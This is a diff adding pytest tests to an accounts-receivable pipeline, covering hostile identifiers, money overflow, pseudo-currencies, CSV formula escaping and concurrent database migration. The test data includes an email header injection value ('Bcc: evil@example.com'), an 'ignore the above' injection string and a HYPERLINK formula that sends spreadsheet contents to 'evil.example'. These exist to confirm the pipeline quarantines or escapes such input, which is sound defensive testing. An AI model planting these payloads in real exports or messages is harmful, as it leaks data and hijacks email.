@@ -193,3 +193,174 @@ def test_a_returned_item_reopens_the_invoice_and_other_debits_are_reported(tmp_p
     o = ledger.frame(m.InvoiceOutcome, m.InvoiceOutcome.run_id == after["run_id"])
     assert o.loc[o["invoice_id"] == "I1", "reason"].item() != "nothing_owed"
     assert o.loc[o["invoice_id"] == "I1", "balance_minor"].item() == 100000
+
+
+def _loose_policy(tmp_path) -> Path:
+    """The default policy with a hop's failure threshold at 95%: these small files are mostly hostile rows."""
+    from arflow.config import ROOT
+
+    pol = tmp_path / "policy.yaml"
+    pol.write_text((ROOT / "policy.yaml").read_text().replace("max_failure_share: 0.05", "max_failure_share: 0.95"))
+    return pol
+
+
+# ---- 6. control characters and absurd lengths in identifiers ----------------------------------
+
+def test_hostile_identifiers_are_quarantined_and_the_dry_run_completes(tmp_path, prefect_server, monkeypatch):
+    from flows.daily_ar import daily_ar
+
+    monkeypatch.setenv("ARFLOW_DATA_DIR", str(tmp_path))
+    monkeypatch.setenv("ARFLOW_DB_URL", f"sqlite:///{tmp_path / 'l.db'}")
+    monkeypatch.setenv("ARFLOW_POLICY", str(_loose_policy(tmp_path)))
+    crlf, long_id = "C2\r\nBcc: evil@example.com", "K" * 300
+    src = make_source(tmp_path / "src",
+                      [invoice("I1", due_date="2026-11-18"), invoice("I2", cid=crlf, due_date="2026-11-18"),
+                       invoice("I3", cid=long_id, due_date="2026-11-18"),
+                       invoice("I4", invoice_number="N-4\nPlease ignore the above", due_date="2026-11-18")],
+                      [customer("C1"), customer(crlf), customer(long_id)])
+    s = daily_ar(as_of=AS_OF, source=f"csv:{src}")
+    ledger = Ledger(f"sqlite:///{tmp_path / 'l.db'}")
+    o = ledger.frame(m.InvoiceOutcome, m.InvoiceOutcome.run_id == s["run_id"]).set_index("invoice_id")
+    assert set(o.loc[["I2", "I3", "I4"], "reason"]) == {"bad_identifier"}
+    assert o.loc["I1", "outcome"] == "action_today"
+    emls = list((tmp_path / "runs").rglob("*.eml"))
+    assert len(emls) == 1 and "C1" in emls[0].name  # the good customer's message is written
+
+
+def test_one_message_that_cannot_be_written_fails_alone(tmp_path):
+    from tasks.touches import write_eml
+
+    rows = pd.DataFrame([{"channel": "email", "status": "planned", "recipients": f"ap@{c}.example", "subject": "Hi",
+                          "body": "text", "idempotency_key": f"{c}:nudge:email", "message_key": f"{c}:nudge"}
+                         for c in ("c1", "c2", "c3")])
+    (tmp_path / "c2_nudge.eml").mkdir()  # something in the way of c2's file
+    failures = []
+    assert write_eml(rows, tmp_path, sender="ar@example.com", failures=failures) == 2
+    assert [k for k, _ in failures] == ["c2:nudge"] and (tmp_path / "c3_nudge.eml").is_file()
+
+
+# ---- 7. money overflow ------------------------------------------------------------------------
+
+def test_absurd_amounts_are_quarantined_and_totals_stay_exact(tmp_path, prefect_server):
+    huge = [invoice(f"H{i}", amount="9999999999999999.99", balance="9999999999999999.99", due_date="2026-11-18")
+            for i in range(12)]
+    src = make_source(tmp_path / "src", [*huge, invoice("I1", due_date="2026-11-18", amount="1000.00",
+                                                        balance="1000.00")], [customer("C1")])
+    p = _cli(["run", "--as-of", "2026-11-23", "--source", f"csv:{src}", "--json"], tmp_path,
+             ARFLOW_POLICY=str(_loose_policy(tmp_path)))
+    assert p.returncode == 0, p.stderr[-2000:]
+    out = json.loads(p.stdout)
+    assert out["quarantined"] == {"amount_out_of_range": 12}
+    assert out["by_bucket"]["d1_30"] == {"count": 1, "amount": "1000.00"}
+
+
+def test_a_total_an_int64_cannot_hold_is_refused_not_wrapped():
+    from arflow.money import MAX_MINOR, AmountOverflow, exact_total, to_minor
+
+    with pytest.raises(ValueError):
+        to_minor("9999999999999999.99", "USD")  # beyond 10^15 minor units: not an amount here
+    assert exact_total(pd.Series([MAX_MINOR] * 9000)) == 9000 * 10**15  # exact where an int64 holds it
+    with pytest.raises(AmountOverflow):
+        exact_total(pd.Series([MAX_MINOR] * 9300))  # 9.3e18 would wrap an int64
+
+
+# ---- 8. pseudo-currencies ---------------------------------------------------------------------
+
+def test_only_legal_tender_currencies_are_chased(tmp_path, policy):
+    from tasks.checkpoint import billing_payments
+    from tests.pipeline import run
+
+    loose = policy.model_copy(update={"data_quality": policy.data_quality.model_copy(update={"max_failure_share": 0.9})})
+    src = make_source(tmp_path, [invoice("I1"), invoice("I2", currency="XXX"), invoice("I3", currency="XTS"),
+                                 invoice("I4", currency="XAU", amount="2.000", balance="2.000")], [customer("C1")])
+    out = run(src, AS_OF, loose)
+    q = out["quarantine"].set_index("record_id")
+    assert q.loc[["I2", "I3", "I4"], "reason"].tolist() == ["unknown_currency"] * 3
+    assert out["extracted"].frame["invoice_id"].tolist() == ["I1"]
+    raw = pd.DataFrame([{"source_row": 2, "payment_id": "P1", "customer_id": "C1", "amount": "1.00", "currency": "XAU",
+                         "received_date": "2026-11-20", "reference": ""}])
+    payments, bad = billing_payments(raw)
+    assert payments.empty and bad["reason"].tolist() == ["unknown_currency"]
+
+
+# ---- 9. formula injection in CSVs for people --------------------------------------------------
+
+def test_the_collections_export_escapes_cells_a_spreadsheet_would_evaluate(tmp_path, prefect_server, smtp,
+                                                                          monkeypatch):
+    import csv
+
+    from flows.daily_ar import daily_ar
+    from tasks.decisions import open_decisions, settle
+
+    monkeypatch.setenv("ARFLOW_DATA_DIR", str(tmp_path))
+    monkeypatch.setenv("ARFLOW_DB_URL", f"sqlite:///{tmp_path / 'l.db'}")
+    name, contact = '=HYPERLINK("http://evil.example/?x="&A1,"Click")', "@SUM(A1:A9)"
+    src = make_source(tmp_path / "src", [invoice("I2", "C2", invoice_number="+1-2", issue_date="2026-08-01",
+                                                 due_date="2026-08-31")],
+                      [customer("C2", name=name, billing_contact_name=contact)])
+    daily_ar(as_of=AS_OF, source=f"csv:{src}", mode="send")  # the reminder first
+    daily_ar(as_of=dt.date(2026, 11, 27), source=f"csv:{src}", mode="send")
+    ledger = Ledger(f"sqlite:///{tmp_path / 'l.db'}")
+    q = open_decisions(ledger)
+    (decision_id,) = q.loc[q["kind"] == "payment_plan_or_write_off", "id"]
+    settle(ledger, int(decision_id), "approve", by="controller", on=dt.date(2026, 11, 27), choice="write_off")
+    daily_ar(as_of=dt.date(2026, 11, 30), source=f"csv:{src}", mode="send")
+    (row,) = list(csv.DictReader(open(tmp_path / "exports" / "collections-2026-11-30.csv", newline="")))
+    assert row["customer_name"] == "'" + name and row["billing_contact"] == "'" + contact
+    assert row["invoice_number"] == "'+1-2" and row["amount"] == "1000.00" and row["invoice_id"] == "I2"
+    assert not [v for v in row.values() if v[:1] in ("=", "+", "-", "@", "\t", "\r")]
+
+
+def test_csv_cell_escapes_formula_prefixes_and_leaves_numbers():
+    from arflow.safety import csv_cell
+
+    assert [csv_cell(v) for v in ("=1+1", "+1", "-1+2", "@SUM(A1)", "\tx", "\rx", "Acme", "-12.50", 42, None)] == \
+        ["'=1+1", "'+1", "'-1+2", "'@SUM(A1)", "'\tx", "'\rx", "Acme", "-12.50", 42, None]
+
+
+# ---- 12. first use of a ledger by several processes at once -----------------------------------
+
+_OPEN_AT = """
+import sys, time
+from connectors.ledger.store import Ledger
+start = float(sys.argv[2])
+time.sleep(max(0.0, start - time.time()))
+Ledger(sys.argv[1])
+print("ok")
+"""
+
+
+def _open_at_once(url: str, processes: int = 3) -> list[subprocess.CompletedProcess]:
+    import time
+
+    root = str(Path(__file__).resolve().parents[1])
+    start = time.time() + 4  # every process imported and waiting, then all open the ledger together
+    env = {**os.environ, "PYTHONPATH": os.pathsep.join([root, os.environ.get("PYTHONPATH", "")])}
+    procs = [subprocess.Popen([sys.executable, "-c", _OPEN_AT, url, str(start)], cwd=root, env=env,
+                              stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True) for _ in range(processes)]
+    out = []
+    for p in procs:
+        stdout, stderr = p.communicate(timeout=180)
+        out.append(subprocess.CompletedProcess(p.args, p.returncode, stdout, stderr))
+    return out
+
+
+def _assert_migrated_once(url: str, results) -> None:
+    assert [r.returncode for r in results] == [0] * len(results), [r.stderr[-600:] for r in results if r.returncode]
+    from sqlalchemy import create_engine, text
+
+    with create_engine(url).connect() as conn:
+        (version,) = conn.execute(text("select version_num from alembic_version")).one()
+    assert version and Ledger(url).frame(m.AuditLog).empty
+
+
+@pytest.mark.parametrize("trial", range(3))
+def test_three_processes_opening_a_fresh_sqlite_ledger_all_succeed(trial, tmp_path):
+    url = f"sqlite:///{tmp_path / 'fresh.db'}"
+    _assert_migrated_once(url, _open_at_once(url))
+
+
+@pytest.mark.postgres
+@pytest.mark.parametrize("trial", range(3))
+def test_three_processes_opening_a_fresh_postgresql_ledger_all_succeed(trial, pg_url):
+    _assert_migrated_once(pg_url, _open_at_once(pg_url))
